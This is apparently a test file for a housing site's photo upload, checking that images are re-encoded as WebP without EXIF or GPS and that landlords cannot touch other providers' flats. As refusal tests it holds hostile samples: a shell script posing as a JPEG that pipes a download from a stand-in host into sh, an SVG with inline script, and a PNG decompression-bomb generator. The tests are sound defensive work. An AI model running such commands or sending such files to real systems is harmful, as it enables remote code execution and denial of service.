import assert from 'node:assert/strict';
import { crc32, deflateSync } from 'node:zlib';
import { after, before, describe, test } from 'node:test';
import sharp from 'sharp';
import { Client, type TestApp, testApp } from '../../testing/app.ts';
import { demoSession, grantedSession, idsOf } from './flats.fixtures.ts';
import { processPhoto, sniff } from '../../platform/media/image.ts';

/** A multipart body as a browser sends the photo form: the token first, then the alt text and the file. */
function multipart(fields: Record<string, string>, file: { name: string; type: string; data: Buffer } | null) {
  const boundary = '----zuhause-test-boundary';
  const parts: Buffer[] = [];
  for (const [k, v] of Object.entries(fields)) {
    parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`));
  }
  if (file) {
    const head = `--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`;
    parts.push(Buffer.from(head), file.data, Buffer.from('\r\n'));
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(parts), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

/** A PNG whose header claims `w` × `h` pixels, with one tiny compressed row: megabytes of pixels in bytes. */
function pngBomb(w: number, h: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale
  const sig = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    sig,
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.alloc(w + 1))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const photoWithGps = () =>
  sharp({ create: { width: 2400, height: 1200, channels: 3, background: { r: 200, g: 180, b: 150 } } })
    .withExif({ IFD0: { Copyright: 'Wohnbau' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 41/1 30/1' } })
    .jpeg()
    .toBuffer();

describe('flat photos: checked by content, re-encoded without metadata, hostile uploads refused', () => {
  let t: TestApp;
  let landlord: Client;
  let other: Client;
  let flatId = '';
  let draftId = '';
  const url = (id: string) => `/de/m/meppen/admin/housing/flats/${id}/photos`;
  const stored = async () =>
    Number(
      (
        await t.conn.db
          .selectFrom('housing_flat_photos')
          .select((eb) => eb.fn.countAll<string>().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );
  const upload = async (
    c: Client,
    id: string,
    file: Parameters<typeof multipart>[1],
    alt = 'Wohnzimmer mit Fenster',
  ) => {
    if (!c.csrf) await c.get(`/de/m/meppen/admin/housing/flats`);
    const body = multipart({ _csrf: c.csrf, alt }, file);
    return c.request({ method: 'POST', url: url(id), ...body });
  };

  before(async () => {
    t = await testApp({}, [], { demo: true });
    const db = t.conn.db;
    landlord = new Client(t.app);
    landlord.cookies = `zh_sid=${await demoSession(db, 'vermietung.meppen')}`;
    const caritas = await idsOf(db, 'meppen', 'Caritas');
    other = new Client(t.app);
    const grant = { role: 'landlord' as const, municipalityId: caritas.municipalityId, providerId: caritas.providerId };
    other.cookies = `zh_sid=${(await grantedSession(db, 'other-landlord@example.test', grant)).token}`;
    const byStreet = async (s: string) =>
      (await db.selectFrom('housing_flats').select('id').where('street', '=', s).executeTakeFirstOrThrow()).id;
    flatId = await byStreet('Am Neuen Markt 7');
    draftId = await byStreet('Herzog-Arenberg-Straße 15');
  });
  after(() => t.close());

  test('a photo is resized, re-encoded as WebP and stripped of EXIF and GPS; the public sees it', async () => {
    const original = await photoWithGps();
    assert.ok((await sharp(original).metadata()).exif, 'the test photo carries EXIF');
    const res = await upload(landlord, flatId, { name: 'wohnzimmer.jpg', type: 'image/jpeg', data: original });
    assert.equal(res.statusCode, 303, res.body.slice(0, 300));
    const row = await t.conn.db
      .selectFrom('housing_flat_photos')
      .selectAll()
      .where('alt_text', '=', 'Wohnzimmer mit Fenster')
      .executeTakeFirstOrThrow();
    assert.equal(row.width, 1600);
    assert.equal(row.height, 800);
    assert.equal(row.alt_text, 'Wohnzimmer mit Fenster');
    const meta = await sharp(Buffer.from(row.data)).metadata();
    assert.equal(meta.format, 'webp');
    assert.equal(meta.exif, undefined, 'no EXIF (and so no GPS) is kept');
    assert.equal(meta.xmp, undefined);
    const page = await t.app.inject({ method: 'GET', url: `/ar/m/meppen/flats/${flatId}` });
    assert.match(
      page.body,
      new RegExp(`<img src="/ar/m/meppen/flats/${flatId}/photos/${row.id}" alt="Wohnzimmer mit Fenster"`),
    );
    const image = await t.app.inject({ method: 'GET', url: `/de/m/meppen/flats/${flatId}/photos/${row.id}` });
    assert.equal(image.statusCode, 200);
    assert.equal(image.headers['content-type'], 'image/webp');
    assert.equal(image.headers['x-content-type-options'], 'nosniff');
  });

  const refused = async (file: Parameters<typeof multipart>[1], message: RegExp) => {
    const before = await stored();
    const res = await upload(landlord, flatId, file);
    assert.equal(res.statusCode, 422);
    assert.match(res.body, message);
    assert.match(res.body, /value="Wohnzimmer mit Fenster"/, 'the alt text typed is kept');
    assert.equal(await stored(), before, 'nothing stored');
  };

  test('a script renamed .jpg is refused by its content', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
    await refused({ name: 'foto.jpg', type: 'image/jpeg', data: script }, /kein Foto im Format JPEG, PNG oder WebP/);
  });

  test('an SVG is not accepted at all, script or not', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    await refused({ name: 'plan.svg', type: 'image/svg+xml', data: svg }, /auch SVG/);
  });

  test('a 50 MB upload is refused as too large; the rest of the body is read and dropped', async () => {
    const huge = Buffer.alloc(50 * 1024 * 1024, 0xff);
    huge.set([0xff, 0xd8, 0xff, 0xe0]);
    await refused({ name: 'gross.jpg', type: 'image/jpeg', data: huge }, /größer als 8 MB/);
  });

  test('a decompression bomb (huge pixel count in a small file) is refused before decoding', async () => {
    const bomb = pngBomb(30_000, 30_000);
    assert.ok(bomb.length < 100_000, 'the file itself is small');
    await refused({ name: 'bomb.png', type: 'image/png', data: bomb }, /zu viele Bildpunkte/);
  });

  test('a broken image and a missing file get their own message', async () => {
    const truncated = (await photoWithGps()).subarray(0, 200);
    await refused({ name: 'kaputt.jpg', type: 'image/jpeg', data: truncated }, /ließ sich nicht lesen/);
    await refused(null, /Bitte ein Foto auswählen/);
  });

  test("another provider's landlord cannot add or remove photos, nor see a draft's photo", async () => {
    const before = await stored();
    const res = await upload(other, flatId, { name: 'x.jpg', type: 'image/jpeg', data: await photoWithGps() });
    assert.equal(res.statusCode, 404);
    assert.equal(await stored(), before);
    const photo = await t.conn.db.selectFrom('housing_flat_photos').select('id').executeTakeFirstOrThrow();
    const del = await other.post(`${url(flatId)}/${photo.id}/delete`, {});
    assert.equal(del.statusCode, 404);
    assert.equal(await stored(), before);
    const draft = await upload(landlord, draftId, { name: 'd.jpg', type: 'image/jpeg', data: await photoWithGps() });
    assert.equal(draft.statusCode, 303);
    const draftPhoto = await t.conn.db
      .selectFrom('housing_flat_photos')
      .select('id')
      .where('flat_id', '=', draftId)
      .executeTakeFirstOrThrow();
    const anonymous = await t.app.inject({
      method: 'GET',
      url: `/de/m/meppen/flats/${draftId}/photos/${draftPhoto.id}`,
    });
    assert.equal(anonymous.statusCode, 404);
    assert.equal((await landlord.get(`/de/m/meppen/flats/${draftId}/photos/${draftPhoto.id}`)).statusCode, 200);
    const removed = await landlord.post(`${url(draftId)}/${draftPhoto.id}/delete`, {});
    assert.equal(removed.statusCode, 303);
    assert.equal(await stored(), before);
  });

  test('the type check reads magic bytes, not names (pure)', async () => {
    assert.equal(sniff(Buffer.from([0xff, 0xd8, 0xff, 0xdb])), 'jpeg');
    assert.equal(sniff(Buffer.from('RIFF\0\0\0\0WEBPVP8 ')), 'webp');
    assert.equal(sniff(Buffer.from('<?xml version="1.0"?><svg/>')), null);
    assert.equal(sniff(Buffer.from('GIF89a')), null);
    const result = await processPhoto(pngBomb(8000, 6000));
    assert.deepEqual(result, { ok: false, refusal: 'pixels' });
  });
});
